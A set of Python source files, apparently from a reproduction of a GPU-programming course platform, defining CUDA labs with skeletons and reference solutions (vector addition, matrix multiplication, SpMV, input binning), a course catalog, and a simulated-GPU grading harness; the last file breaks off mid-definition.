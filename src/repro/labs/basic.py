"""Introductory labs: Device Query, Vector Addition, basic & tiled MatMul."""

from repro.labs.base import EvaluationMode, LabDefinition, Rubric

# --------------------------------------------------------------- Device Query

_DEVICE_QUERY_SOURCE = r'''
#include <wb.h>

int main(int argc, char **argv) {
  int deviceCount;

  wbArg_read(argc, argv);
  cudaGetDeviceCount(&deviceCount);

  for (int dev = 0; dev < deviceCount; dev++) {
    cudaDeviceProp deviceProp;
    cudaGetDeviceProperties(&deviceProp, dev);
    wbLog(TRACE, "Device ", dev, " name: ", deviceProp.name);
    wbLog(TRACE, " Computational Capabilities: ", deviceProp.major, ".",
          deviceProp.minor);
    wbLog(TRACE, " Maximum global memory size: ", deviceProp.totalGlobalMem);
    wbLog(TRACE, " Maximum shared memory size per block: ",
          deviceProp.sharedMemPerBlock);
    wbLog(TRACE, " Maximum block dimensions: ", deviceProp.maxThreadsDim[0],
          " x ", deviceProp.maxThreadsDim[1], " x ",
          deviceProp.maxThreadsDim[2]);
    wbLog(TRACE, " Maximum grid dimensions: ", deviceProp.maxGridSize[0],
          " x ", deviceProp.maxGridSize[1], " x ", deviceProp.maxGridSize[2]);
    wbLog(TRACE, " Warp size: ", deviceProp.warpSize);
    wbLog(TRACE, " Multiprocessor count: ", deviceProp.multiProcessorCount);
  }

  return 0;
}
'''

DEVICE_QUERY = LabDefinition(
    slug="device-query",
    title="Device Query",
    description="""# Device Query

The purpose of this lab is to introduce you to WebGPU and verify that
you can compile and run a CUDA program. The provided code queries every
GPU visible to the runtime with `cudaGetDeviceProperties` and logs its
capabilities.

## Instructions

No code changes are required. Compile the program, run it, and submit.
Read the output carefully: the device limits it reports (threads per
block, shared memory per block, warp size) constrain every later lab.
""",
    skeleton=_DEVICE_QUERY_SOURCE,
    solution=_DEVICE_QUERY_SOURCE,
    generator="device_query",
    dataset_sizes=(1,),
    mode=EvaluationMode.STDOUT_MARKERS,
    stdout_markers=("Computational Capabilities", "Warp size",
                    "Multiprocessor count"),
    courses=frozenset({"HPP", "408", "598"}),
    rubric=Rubric(dataset_points=90, compile_points=10, question_points=0),
    questions=("How many multiprocessors does the device report, and why "
               "does that matter for choosing a grid size?",),
)

# ------------------------------------------------------------- Vector Addition

_VECADD_SKELETON = r'''
#include <wb.h>

__global__ void vecAdd(float *in1, float *in2, float *out, int len) {
  //@@ Insert code to implement vector addition here
}

int main(int argc, char **argv) {
  wbArg_t args;
  int inputLength;
  float *hostInput1, *hostInput2, *hostOutput;
  float *deviceInput1, *deviceInput2, *deviceOutput;

  args = wbArg_read(argc, argv);

  hostInput1 = (float *)wbImport(wbArg_getInputFile(args, 0), &inputLength);
  hostInput2 = (float *)wbImport(wbArg_getInputFile(args, 1), &inputLength);
  hostOutput = (float *)malloc(inputLength * sizeof(float));

  wbLog(TRACE, "The input length is ", inputLength);

  //@@ Allocate GPU memory here

  //@@ Copy memory to the GPU here

  //@@ Initialize the grid and block dimensions here

  //@@ Launch the GPU Kernel here

  cudaDeviceSynchronize();

  //@@ Copy the GPU memory back to the CPU here

  //@@ Free the GPU memory here

  wbSolution(args, hostOutput, inputLength);

  free(hostOutput);
  return 0;
}
'''

_VECADD_SOLUTION = r'''
#include <wb.h>

__global__ void vecAdd(float *in1, float *in2, float *out, int len) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < len) {
    out[i] = in1[i] + in2[i];
  }
}

int main(int argc, char **argv) {
  wbArg_t args;
  int inputLength;
  float *hostInput1, *hostInput2, *hostOutput;
  float *deviceInput1, *deviceInput2, *deviceOutput;

  args = wbArg_read(argc, argv);

  hostInput1 = (float *)wbImport(wbArg_getInputFile(args, 0), &inputLength);
  hostInput2 = (float *)wbImport(wbArg_getInputFile(args, 1), &inputLength);
  hostOutput = (float *)malloc(inputLength * sizeof(float));

  wbLog(TRACE, "The input length is ", inputLength);

  cudaMalloc((void **)&deviceInput1, inputLength * sizeof(float));
  cudaMalloc((void **)&deviceInput2, inputLength * sizeof(float));
  cudaMalloc((void **)&deviceOutput, inputLength * sizeof(float));

  cudaMemcpy(deviceInput1, hostInput1, inputLength * sizeof(float),
             cudaMemcpyHostToDevice);
  cudaMemcpy(deviceInput2, hostInput2, inputLength * sizeof(float),
             cudaMemcpyHostToDevice);

  dim3 dimBlock(256);
  dim3 dimGrid((inputLength + 255) / 256);

  vecAdd<<<dimGrid, dimBlock>>>(deviceInput1, deviceInput2, deviceOutput,
                                inputLength);
  cudaDeviceSynchronize();

  cudaMemcpy(hostOutput, deviceOutput, inputLength * sizeof(float),
             cudaMemcpyDeviceToHost);

  cudaFree(deviceInput1);
  cudaFree(deviceInput2);
  cudaFree(deviceOutput);

  wbSolution(args, hostOutput, inputLength);

  free(hostOutput);
  return 0;
}
'''

VECTOR_ADD = LabDefinition(
    slug="vector-add",
    title="Vector Addition",
    description="""# Vector Addition

Implement element-wise addition of two input vectors on the GPU.

## Objectives

* Allocate device memory with `cudaMalloc` and free it with `cudaFree`.
* Copy data between host and device with `cudaMemcpy`.
* Write a CUDA kernel using `blockIdx`, `blockDim`, and `threadIdx` to
  compute a global index, with a boundary check against the length.
* Launch the kernel with a one-dimensional grid that covers the input.

## Grading

Your program is run against several datasets of different lengths; the
output recorded by `wbSolution` must match the expected sum.
""",
    skeleton=_VECADD_SKELETON,
    solution=_VECADD_SOLUTION,
    generator="vector_add",
    dataset_sizes=(16, 100, 257, 1024),
    courses=frozenset({"HPP", "408"}),
    questions=("Why is the boundary check `i < len` necessary even though "
               "the grid was sized from the input length?",),
)

# --------------------------------------------------- Basic Matrix Multiplication

_MATMUL_HOST = r'''
int main(int argc, char **argv) {
  wbArg_t args;
  int numARows, numAColumns, numBRows, numBColumns;
  float *hostA, *hostB, *hostC;
  float *deviceA, *deviceB, *deviceC;

  args = wbArg_read(argc, argv);

  hostA = (float *)wbImport(wbArg_getInputFile(args, 0), &numARows,
                            &numAColumns);
  hostB = (float *)wbImport(wbArg_getInputFile(args, 1), &numBRows,
                            &numBColumns);
  hostC = (float *)malloc(numARows * numBColumns * sizeof(float));

  wbLog(TRACE, "The dimensions of A are ", numARows, " x ", numAColumns);
  wbLog(TRACE, "The dimensions of B are ", numBRows, " x ", numBColumns);

  cudaMalloc((void **)&deviceA, numARows * numAColumns * sizeof(float));
  cudaMalloc((void **)&deviceB, numBRows * numBColumns * sizeof(float));
  cudaMalloc((void **)&deviceC, numARows * numBColumns * sizeof(float));

  cudaMemcpy(deviceA, hostA, numARows * numAColumns * sizeof(float),
             cudaMemcpyHostToDevice);
  cudaMemcpy(deviceB, hostB, numBRows * numBColumns * sizeof(float),
             cudaMemcpyHostToDevice);

  dim3 dimBlock(8, 8);
  dim3 dimGrid((numBColumns + 7) / 8, (numARows + 7) / 8);

  matrixMultiply<<<dimGrid, dimBlock>>>(deviceA, deviceB, deviceC, numARows,
                                        numAColumns, numBRows, numBColumns);
  cudaDeviceSynchronize();

  cudaMemcpy(hostC, deviceC, numARows * numBColumns * sizeof(float),
             cudaMemcpyDeviceToHost);

  cudaFree(deviceA);
  cudaFree(deviceB);
  cudaFree(deviceC);

  wbSolution(args, hostC, numARows, numBColumns);

  free(hostC);
  return 0;
}
'''

_MATMUL_SKELETON = r'''
#include <wb.h>

__global__ void matrixMultiply(float *A, float *B, float *C, int numARows,
                               int numAColumns, int numBRows,
                               int numBColumns) {
  //@@ Insert code to implement basic matrix multiplication here
  //@@ Do not use shared memory for this lab
}
''' + _MATMUL_HOST

_MATMUL_SOLUTION = r'''
#include <wb.h>

__global__ void matrixMultiply(float *A, float *B, float *C, int numARows,
                               int numAColumns, int numBRows,
                               int numBColumns) {
  int row = blockIdx.y * blockDim.y + threadIdx.y;
  int col = blockIdx.x * blockDim.x + threadIdx.x;
  if (row < numARows && col < numBColumns) {
    float sum = 0.0f;
    for (int k = 0; k < numAColumns; k++) {
      sum += A[row * numAColumns + k] * B[k * numBColumns + col];
    }
    C[row * numBColumns + col] = sum;
  }
}
''' + _MATMUL_HOST

BASIC_MATMUL = LabDefinition(
    slug="basic-matmul",
    title="Basic Matrix Multiplication",
    description="""# Basic Matrix Multiplication

Compute C = A x B for arbitrary (compatible) matrix shapes.

## Objectives

* Use two-dimensional grids and blocks and derive `(row, col)` from the
  builtin index variables.
* Check boundaries in both dimensions — the matrices are generally not
  multiples of the block size.
* Index flattened row-major matrices correctly.

This lab deliberately forbids shared memory; the tiled version is the
next lab, and comparing the two is part of the point.
""",
    skeleton=_MATMUL_SKELETON,
    solution=_MATMUL_SOLUTION,
    generator="matmul",
    dataset_sizes=(8, 15, 20),
    courses=frozenset({"HPP", "408"}),
    questions=("How many times is each element of A loaded from global "
               "memory during the computation?",),
)

# --------------------------------------------------- Tiled Matrix Multiplication

_TILED_SKELETON = r'''
#include <wb.h>

#define TILE_WIDTH 8

__global__ void matrixMultiplyShared(float *A, float *B, float *C,
                                     int numARows, int numAColumns,
                                     int numBRows, int numBColumns) {
  __shared__ float ds_A[TILE_WIDTH][TILE_WIDTH];
  __shared__ float ds_B[TILE_WIDTH][TILE_WIDTH];
  //@@ Insert code to implement tiled matrix multiplication here
  //@@ Load tiles cooperatively, synchronize, accumulate, synchronize
}
''' + _MATMUL_HOST.replace("matrixMultiply<<<", "matrixMultiplyShared<<<")

_TILED_SOLUTION = r'''
#include <wb.h>

#define TILE_WIDTH 8

__global__ void matrixMultiplyShared(float *A, float *B, float *C,
                                     int numARows, int numAColumns,
                                     int numBRows, int numBColumns) {
  __shared__ float ds_A[TILE_WIDTH][TILE_WIDTH];
  __shared__ float ds_B[TILE_WIDTH][TILE_WIDTH];
  int bx = blockIdx.x, by = blockIdx.y;
  int tx = threadIdx.x, ty = threadIdx.y;
  int Row = by * TILE_WIDTH + ty;
  int Col = bx * TILE_WIDTH + tx;
  float Pvalue = 0.0f;
  for (int m = 0; m < (numAColumns - 1) / TILE_WIDTH + 1; ++m) {
    if (Row < numARows && m * TILE_WIDTH + tx < numAColumns)
      ds_A[ty][tx] = A[Row * numAColumns + m * TILE_WIDTH + tx];
    else
      ds_A[ty][tx] = 0.0f;
    if (Col < numBColumns && m * TILE_WIDTH + ty < numBRows)
      ds_B[ty][tx] = B[(m * TILE_WIDTH + ty) * numBColumns + Col];
    else
      ds_B[ty][tx] = 0.0f;
    __syncthreads();
    for (int k = 0; k < TILE_WIDTH; ++k)
      Pvalue += ds_A[ty][k] * ds_B[k][tx];
    __syncthreads();
  }
  if (Row < numARows && Col < numBColumns)
    C[Row * numBColumns + Col] = Pvalue;
}
''' + _MATMUL_HOST.replace("matrixMultiply<<<", "matrixMultiplyShared<<<")

TILED_MATMUL = LabDefinition(
    slug="tiled-matmul",
    title="Tiled Matrix Multiplication",
    description="""# Tiled Matrix Multiplication

Re-implement matrix multiplication using shared-memory tiling.

## Objectives

* Declare `__shared__` tiles and load them cooperatively — one element
  per thread per phase, with boundary handling that writes zeros for
  out-of-range elements.
* Use `__syncthreads()` correctly: once after loading, once after
  accumulating, and *never* inside divergent control flow.
* Observe (in the profiler output shown with each attempt) how tiling
  reduces global-memory transactions by a factor of TILE_WIDTH.
""",
    skeleton=_TILED_SKELETON,
    solution=_TILED_SOLUTION,
    generator="matmul",
    dataset_sizes=(8, 15, 20),
    courses=frozenset({"HPP", "408"}),
    questions=(
        "Why must __syncthreads() not be placed inside the boundary-check "
        "if statement?",
        "By what factor does tiling reduce global memory traffic?",
    ),
)
