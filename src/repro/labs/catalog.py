"""The Table-II catalog: all fifteen labs and the course matrix.

Course codes: HPP (Heterogeneous Parallel Programming, Coursera),
408 (ECE 408), 598 (ECE 598HK), PUMPS (UPC Barcelona summer school).

The x-marks in the paper's Table II are reproduced here; where the
scanned table's column alignment is ambiguous, assignments follow the
course descriptions in Section V (introductory labs to HPP/408,
advanced algorithmic-technique labs to 598, and the irregular/MPI labs
to 598/PUMPS). This assumption is recorded in EXPERIMENTS.md.
"""

from __future__ import annotations

from repro.labs.advanced import OPENCL_VECADD, SCATTER_GATHER, SGEMM, STENCIL
from repro.labs.openacc import OPENACC_VECADD
from repro.labs.base import LabDefinition
from repro.labs.basic import BASIC_MATMUL, DEVICE_QUERY, TILED_MATMUL, VECTOR_ADD
from repro.labs.irregular import BFS_QUEUING, INPUT_BINNING, MPI_STENCIL, SPMV
from repro.labs.memory import CONVOLUTION_2D, IMAGE_EQUALIZATION, REDUCTION_SCAN

#: Course codes, in the paper's column order.
COURSES: tuple[str, ...] = ("HPP", "408", "598", "PUMPS")

#: All labs in the paper's Table II row order.
ALL_LABS: tuple[LabDefinition, ...] = (
    DEVICE_QUERY,
    VECTOR_ADD,
    BASIC_MATMUL,
    TILED_MATMUL,
    CONVOLUTION_2D,
    REDUCTION_SCAN,
    IMAGE_EQUALIZATION,
    OPENCL_VECADD,
    SCATTER_GATHER,
    STENCIL,
    SGEMM,
    SPMV,
    INPUT_BINNING,
    BFS_QUEUING,
    MPI_STENCIL,
)

#: Extension labs beyond Table II (toolchains the paper names but the
#: table does not row: OpenACC).
EXTRA_LABS: tuple[LabDefinition, ...] = (OPENACC_VECADD,)

_BY_SLUG = {lab.slug: lab for lab in ALL_LABS + EXTRA_LABS}


def get_lab(slug: str) -> LabDefinition:
    """Look a lab up by slug; raises KeyError with the known slugs."""
    try:
        return _BY_SLUG[slug]
    except KeyError:
        raise KeyError(
            f"no lab {slug!r}; known labs: {sorted(_BY_SLUG)}") from None


def labs_for_course(course: str) -> list[LabDefinition]:
    """All labs offered in ``course`` (Table II column)."""
    if course not in COURSES:
        raise KeyError(f"unknown course {course!r}; known: {COURSES}")
    return [lab for lab in ALL_LABS if course in lab.courses]


def course_matrix() -> list[tuple[str, dict[str, bool]]]:
    """Table II as data: [(lab title, {course: offered})]."""
    return [
        (lab.title, {course: course in lab.courses for course in COURSES})
        for lab in ALL_LABS
    ]


def render_course_matrix() -> str:
    """Table II as fixed-width text, like the paper renders it."""
    width = max(len(lab.title) for lab in ALL_LABS) + 2
    header = "Lab".ljust(width) + "  ".join(f"{c:>5}" for c in COURSES)
    lines = [header, "-" * len(header)]
    for title, marks in course_matrix():
        cells = "  ".join(f"{'x' if marks[c] else '':>5}" for c in COURSES)
        lines.append(title.ljust(width) + cells)
    return "\n".join(lines)
