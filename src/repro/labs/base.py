"""Lab definitions and the language-aware execution harness."""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Any

from repro.gpusim import Device, DeviceSpec, GpuRuntime, KEPLER_K20
from repro.minicuda import CompileError, HostEnv, compile_source
from repro.mpisim import run_mpi
from repro.profiler import LineBudget, merge_stats_profiles
from repro.wb.comparison import CompareResult, compare_solution
from repro.wb.datasets import GeneratedData, generators


class EvaluationMode(enum.Enum):
    """How a lab's output is judged."""

    SOLUTION = "solution"          # wbSolution vs expected dataset
    STDOUT_MARKERS = "stdout"      # program output must contain markers
    KERNEL_ONLY = "kernel_only"    # harness launches one kernel directly
    MPI = "mpi"                    # multi-rank wbSolution at rank 0


@dataclass(frozen=True)
class Rubric:
    """Point allocation (paper Section IV-E item 5)."""

    dataset_points: int = 80
    compile_points: int = 10
    question_points: int = 10

    @property
    def total(self) -> int:
        return self.dataset_points + self.compile_points + self.question_points


@dataclass(frozen=True)
class LabDefinition:
    """Everything an instructor deploys for one lab (Section IV-E)."""

    slug: str
    title: str
    description: str                     # markdown
    skeleton: str                        # starter code shown in editor
    solution: str                        # reference solution (not shown)
    generator: str                       # key into wb.datasets.generators
    dataset_sizes: tuple[int, ...]       # one dataset per size
    language: str = "cuda"               # cuda | opencl | cuda-mpi
    mode: EvaluationMode = EvaluationMode.SOLUTION
    courses: frozenset[str] = frozenset()
    requirements: frozenset[str] = frozenset()   # worker tags (mpi, ...)
    rubric: Rubric = Rubric()
    questions: tuple[str, ...] = ()
    stdout_markers: tuple[str, ...] = ()
    kernel_name: str = ""               # for KERNEL_ONLY labs
    compile_limit_s: float = 30.0
    run_limit_s: float = 60.0
    deadline: float | None = None        # platform sets per offering
    #: Per-line budget rules asserted against the line profiler's
    #: ledger when grading runs with profiling on (e.g. "no global
    #: loads on the inner-loop line"). Empty → nothing asserted.
    line_budgets: tuple[LineBudget, ...] = ()

    def datasets(self, base_seed: int = 1234) -> list[GeneratedData]:
        """Generate this lab's graded datasets deterministically."""
        gen = generators[self.generator]
        return [gen(base_seed + i, size)
                for i, size in enumerate(self.dataset_sizes)]

    def dataset(self, index: int, base_seed: int = 1234) -> GeneratedData:
        gen = generators[self.generator]
        return gen(base_seed + index, self.dataset_sizes[index])


@dataclass
class LabExecution:
    """Result of running lab source against one dataset."""

    compare: CompareResult
    stdout: list[str] = field(default_factory=list)
    kernel_seconds: float = 0.0
    device_seconds: float = 0.0
    exit_code: int = 0
    kernel_stats: list[Any] = field(default_factory=list)
    #: Merged per-line ledger across every profiled launch (None when
    #: the run was not profiled).
    line_profile: Any = None
    #: Preprocessed-source fingerprint — the CAS key for the profile.
    fingerprint: str = ""

    @property
    def passed(self) -> bool:
        return self.exit_code == 0 and self.compare.correct


def execute_lab_source(lab: LabDefinition, source: str, data: GeneratedData,
                       spec: DeviceSpec = KEPLER_K20,
                       max_steps: int = 50_000_000,
                       stdout_hook: Any = None,
                       syscall_hook: Any = None,
                       engine: str | None = None,
                       telemetry: Any = None,
                       profile: bool = False) -> LabExecution:
    """Compile + run ``source`` for ``lab`` against one dataset.

    This is the worker's inner evaluation step, shared with the offline
    harness and the grader. Compile errors propagate as
    :class:`repro.minicuda.CompileError`; runtime faults propagate as
    their interpreter/simulator exceptions (the sandbox layer catches
    and classifies them). ``engine`` selects the kernel execution
    engine (``"closure"``/``"codegen"``/``"simd"``/``"ast"``; None → env var /
    default).
    ``telemetry`` (a :class:`repro.telemetry.Telemetry`) is handed to
    the :class:`GpuRuntime` so per-kernel wall time and KernelStats
    land in the metrics registry; None keeps the launch path untimed.
    ``profile`` turns on the per-source-line kernel profiler: the
    result's ``line_profile`` holds the merged ledger across every
    launch and ``fingerprint`` the CAS key for caching it.
    """
    if lab.mode is EvaluationMode.KERNEL_ONLY:
        return _execute_kernel_only(lab, source, data, spec, max_steps,
                                    engine, telemetry, profile)
    if lab.mode is EvaluationMode.MPI:
        return _execute_mpi(lab, source, data, spec, max_steps,
                            stdout_hook, syscall_hook, engine, telemetry,
                            profile)
    return _execute_full_program(lab, source, data, spec, max_steps,
                                 stdout_hook, syscall_hook, engine,
                                 telemetry, profile)


def _execute_full_program(lab: LabDefinition, source: str,
                          data: GeneratedData, spec: DeviceSpec,
                          max_steps: int, stdout_hook: Any = None,
                          syscall_hook: Any = None,
                          engine: str | None = None,
                          telemetry: Any = None,
                          profile: bool = False) -> LabExecution:
    program = compile_source(source)
    runtime = GpuRuntime(Device(spec), telemetry=telemetry)
    env = HostEnv(datasets=dict(data.inputs), stdout_hook=stdout_hook,
                  syscall_hook=syscall_hook)
    result = program.run_main(runtime=runtime, host_env=env,
                              max_steps=max_steps, engine=engine,
                              profile=profile)
    if lab.mode is EvaluationMode.STDOUT_MARKERS:
        text = "\n".join(env.stdout + env.log)
        missing = [m for m in lab.stdout_markers if m not in text]
        compare = CompareResult(
            correct=not missing, total=len(lab.stdout_markers),
            mismatched=len(missing),
            message=("Missing expected output: " + ", ".join(missing)
                     if missing else ""))
    else:
        compare = compare_solution(
            data.expected, env.solution.data if env.solution else None)
    stats_list = [s for _, s in env.kernel_launches]
    return LabExecution(
        compare=compare, stdout=env.stdout + env.log,
        kernel_seconds=sum(s.elapsed_seconds for _, s in env.kernel_launches),
        device_seconds=runtime.device_time,
        exit_code=result.exit_code,
        kernel_stats=stats_list,
        line_profile=merge_stats_profiles(stats_list),
        fingerprint=program.info.fingerprint or "")


def _execute_kernel_only(lab: LabDefinition, source: str,
                         data: GeneratedData, spec: DeviceSpec,
                         max_steps: int,
                         engine: str | None = None,
                         telemetry: Any = None,
                         profile: bool = False) -> LabExecution:
    """OpenCL-style labs: the student writes only the kernel; the
    harness owns the host side (create buffers, launch, read back)."""
    program = compile_source(source)
    runtime = GpuRuntime(Device(spec), telemetry=telemetry)
    if lab.kernel_name not in program.kernel_names:
        raise CompileError(
            f"expected a kernel named {lab.kernel_name!r}; found "
            f"{list(program.kernel_names)}")
    inputs = [data.inputs[k] for k in sorted(data.inputs)]
    n = int(data.expected.size)
    buffers = [runtime.malloc_like(arr) for arr in inputs]
    out = runtime.malloc(n, data.expected.dtype)
    block = 128
    grid = (max(*(int(a.size) for a in inputs), n) + block - 1) // block
    args: list[Any] = [b.ptr() for b in buffers] + [out.ptr(), n]
    stats = program.launch(runtime, lab.kernel_name, grid, block, *args,
                           max_steps=max_steps, engine=engine,
                           profile=profile)
    actual = runtime.memcpy_dtoh(out)
    compare = compare_solution(data.expected, actual)
    return LabExecution(compare=compare, stdout=[],
                        kernel_seconds=stats.elapsed_seconds,
                        device_seconds=runtime.device_time,
                        exit_code=0, kernel_stats=[stats],
                        line_profile=merge_stats_profiles([stats]),
                        fingerprint=program.info.fingerprint or "")


def _execute_mpi(lab: LabDefinition, source: str, data: GeneratedData,
                 spec: DeviceSpec, max_steps: int, stdout_hook: Any = None,
                 syscall_hook: Any = None,
                 engine: str | None = None,
                 telemetry: Any = None,
                 profile: bool = False) -> LabExecution:
    """Multi-GPU MPI labs: one rank per (simulated) GPU."""
    program = compile_source(source)
    ranks = int(data.params.get("ranks", 4))
    envs: list[HostEnv] = [HostEnv(datasets=dict(data.inputs),
                                   stdout_hook=stdout_hook,
                                   syscall_hook=syscall_hook)
                           for _ in range(ranks)]
    runtimes = [GpuRuntime(Device(spec, device_id=r), telemetry=telemetry)
                for r in range(ranks)]

    def rank_main(endpoint: Any) -> int:
        env = envs[endpoint.rank]
        env.mpi = endpoint
        result = program.run_main(runtime=runtimes[endpoint.rank],
                                  host_env=env, max_steps=max_steps,
                                  engine=engine, profile=profile)
        return result.exit_code

    exit_codes = run_mpi(ranks, rank_main)
    root_env = envs[0]
    compare = compare_solution(
        data.expected, root_env.solution.data if root_env.solution else None)
    stdout: list[str] = []
    for r, env in enumerate(envs):
        stdout.extend(f"[rank {r}] {line}" for line in env.stdout + env.log)
    stats_list = [s for env in envs for _, s in env.kernel_launches]
    return LabExecution(
        compare=compare, stdout=stdout,
        kernel_seconds=sum(s.elapsed_seconds
                           for env in envs
                           for _, s in env.kernel_launches),
        device_seconds=max(rt.device_time for rt in runtimes),
        exit_code=max(int(c or 0) for c in exit_codes),
        kernel_stats=stats_list,
        line_profile=merge_stats_profiles(stats_list),
        fingerprint=program.info.fingerprint or "")
