"""Irregular-parallelism labs: SpMV, Input Binning, BFS, Multi-GPU MPI Stencil."""

from repro.labs.base import EvaluationMode, LabDefinition

# -------------------------------------------------------------------------- SpMV

_SPMV_HOST = r'''
int main(int argc, char **argv) {
  wbArg_t args;
  int numRowsPlusOne, nnz, nnz2, numRows;
  int *hostRowPtr, *hostColIdx;
  float *hostValues, *hostVector, *hostOutput;
  int *deviceRowPtr, *deviceColIdx;
  float *deviceValues, *deviceVector, *deviceOutput;

  args = wbArg_read(argc, argv);
  hostRowPtr = (int *)wbImport(wbArg_getInputFile(args, 0),
                               &numRowsPlusOne);
  hostColIdx = (int *)wbImport(wbArg_getInputFile(args, 1), &nnz);
  hostValues = (float *)wbImport(wbArg_getInputFile(args, 2), &nnz2);
  hostVector = (float *)wbImport(wbArg_getInputFile(args, 3), &numRows);
  hostOutput = (float *)malloc(numRows * sizeof(float));

  wbLog(TRACE, "Matrix has ", numRows, " rows and ", nnz, " non-zeros");

  cudaMalloc((void **)&deviceRowPtr, numRowsPlusOne * sizeof(int));
  cudaMalloc((void **)&deviceColIdx, nnz * sizeof(int));
  cudaMalloc((void **)&deviceValues, nnz * sizeof(float));
  cudaMalloc((void **)&deviceVector, numRows * sizeof(float));
  cudaMalloc((void **)&deviceOutput, numRows * sizeof(float));

  cudaMemcpy(deviceRowPtr, hostRowPtr, numRowsPlusOne * sizeof(int),
             cudaMemcpyHostToDevice);
  cudaMemcpy(deviceColIdx, hostColIdx, nnz * sizeof(int),
             cudaMemcpyHostToDevice);
  cudaMemcpy(deviceValues, hostValues, nnz * sizeof(float),
             cudaMemcpyHostToDevice);
  cudaMemcpy(deviceVector, hostVector, numRows * sizeof(float),
             cudaMemcpyHostToDevice);

  int numBlocks = (numRows + 127) / 128;
  spmvCSRKernel<<<numBlocks, 128>>>(deviceRowPtr, deviceColIdx, deviceValues,
                                    deviceVector, deviceOutput, numRows);
  cudaDeviceSynchronize();

  cudaMemcpy(hostOutput, deviceOutput, numRows * sizeof(float),
             cudaMemcpyDeviceToHost);
  wbSolution(args, hostOutput, numRows);

  cudaFree(deviceRowPtr);
  cudaFree(deviceColIdx);
  cudaFree(deviceValues);
  cudaFree(deviceVector);
  cudaFree(deviceOutput);
  free(hostOutput);
  return 0;
}
'''

_SPMV_SKELETON = r'''
#include <wb.h>

// Sparse matrix-vector multiply, CSR format: one thread per row.

__global__ void spmvCSRKernel(int *rowPtr, int *colIdx, float *values,
                              float *x, float *out, int numRows) {
  //@@ Each thread walks its row's [rowPtr[row], rowPtr[row+1]) slice
  //@@ of colIdx/values and accumulates the dot product with x.
}
''' + _SPMV_HOST

_SPMV_SOLUTION = r'''
#include <wb.h>

__global__ void spmvCSRKernel(int *rowPtr, int *colIdx, float *values,
                              float *x, float *out, int numRows) {
  int row = blockIdx.x * blockDim.x + threadIdx.x;
  if (row < numRows) {
    float dot = 0.0f;
    int start = rowPtr[row];
    int end = rowPtr[row + 1];
    for (int j = start; j < end; j++) {
      dot += values[j] * x[colIdx[j]];
    }
    out[row] = dot;
  }
}
''' + _SPMV_HOST

SPMV = LabDefinition(
    slug="spmv",
    title="SpMV",
    description="""# Sparse Matrix-Vector Multiplication (CSR)

Multiply a sparse matrix in Compressed Sparse Row format by a dense
vector, one thread per row.

## Objectives

* Index-chasing through the CSR arrays (`rowPtr`, `colIdx`, `values`).
* Load imbalance: rows have different numbers of non-zeros, so warps
  containing a heavy row stall their 31 neighbours — compare the
  transaction/instruction profile against the dense kernels.
* The gathered reads of `x[colIdx[j]]` are *not* coalesced; observe the
  load-efficiency counter. (JDS/ELL formats fix exactly this.)
""",
    skeleton=_SPMV_SKELETON,
    solution=_SPMV_SOLUTION,
    generator="spmv",
    dataset_sizes=(8, 24, 40),
    courses=frozenset({"598", "PUMPS"}),
    questions=("Why does the CSR one-thread-per-row mapping suffer from "
               "control divergence?",),
)

# ----------------------------------------------------------------- Input Binning

_BINNING_HOST = r'''
int main(int argc, char **argv) {
  wbArg_t args;
  int numPoints, one;
  float *hostPoints, *hostNumBins, *hostOutput;
  float *devicePoints, *deviceSums, *deviceOutput;
  int *deviceCounts;

  args = wbArg_read(argc, argv);
  hostPoints = (float *)wbImport(wbArg_getInputFile(args, 0), &numPoints);
  hostNumBins = (float *)wbImport(wbArg_getInputFile(args, 1), &one);
  int numBins = (int)hostNumBins[0];

  hostOutput = (float *)malloc(numBins * sizeof(float));

  cudaMalloc((void **)&devicePoints, numPoints * sizeof(float));
  cudaMalloc((void **)&deviceSums, numBins * sizeof(float));
  cudaMalloc((void **)&deviceCounts, numBins * sizeof(int));
  cudaMalloc((void **)&deviceOutput, numBins * sizeof(float));

  cudaMemcpy(devicePoints, hostPoints, numPoints * sizeof(float),
             cudaMemcpyHostToDevice);
  cudaMemset(deviceSums, 0, numBins * sizeof(float));
  cudaMemset(deviceCounts, 0, numBins * sizeof(int));

  int numBlocks = (numPoints + 127) / 128;
  binKernel<<<numBlocks, 128>>>(devicePoints, deviceSums, deviceCounts,
                                numPoints, numBins);
  int avgBlocks = (numBins + 127) / 128;
  averageKernel<<<avgBlocks, 128>>>(deviceSums, deviceCounts, deviceOutput,
                                    numBins);
  cudaDeviceSynchronize();

  cudaMemcpy(hostOutput, deviceOutput, numBins * sizeof(float),
             cudaMemcpyDeviceToHost);
  wbSolution(args, hostOutput, numBins);

  cudaFree(devicePoints);
  cudaFree(deviceSums);
  cudaFree(deviceCounts);
  cudaFree(deviceOutput);
  free(hostOutput);
  return 0;
}
'''

_BINNING_SKELETON = r'''
#include <wb.h>

// Input binning: distribute points in [0, 1) into numBins spatial bins
// (scatter with atomics), then compute each bin's average (gather).

__global__ void binKernel(float *points, float *sums, int *counts,
                          int numPoints, int numBins) {
  //@@ Compute each point's bin = min((int)(p * numBins), numBins - 1)
  //@@ and atomically accumulate the bin's sum and count.
}

__global__ void averageKernel(float *sums, int *counts, float *output,
                              int numBins) {
  //@@ One thread per bin: average, or 0 for an empty bin.
}
''' + _BINNING_HOST

_BINNING_SOLUTION = r'''
#include <wb.h>

__global__ void binKernel(float *points, float *sums, int *counts,
                          int numPoints, int numBins) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < numPoints) {
    float p = points[i];
    int bin = (int)(p * numBins);
    if (bin > numBins - 1)
      bin = numBins - 1;
    atomicAdd(&(sums[bin]), p);
    atomicAdd(&(counts[bin]), 1);
  }
}

__global__ void averageKernel(float *sums, int *counts, float *output,
                              int numBins) {
  int b = blockIdx.x * blockDim.x + threadIdx.x;
  if (b < numBins) {
    int c = counts[b];
    if (c > 0)
      output[b] = sums[b] / (float)c;
    else
      output[b] = 0.0f;
  }
}
''' + _BINNING_HOST

INPUT_BINNING = LabDefinition(
    slug="input-binning",
    title="Input Binning",
    description="""# Input Binning

Bin a set of 1-D points into uniform spatial bins and report each bin's
average value. Binning is the standard preprocessing step that converts
an irregular neighbour search into a regular per-bin traversal (cut-off
pair interactions, spatial hashing, bucketed sorting).

## Objectives

* Scatter-with-atomics into per-bin accumulators.
* The two-phase structure: irregular scatter, then regular gather.
* Performance effects of bin count and input skew on atomic contention
  (visible in the attempt's contention counter).
""",
    skeleton=_BINNING_SKELETON,
    solution=_BINNING_SOLUTION,
    generator="binning",
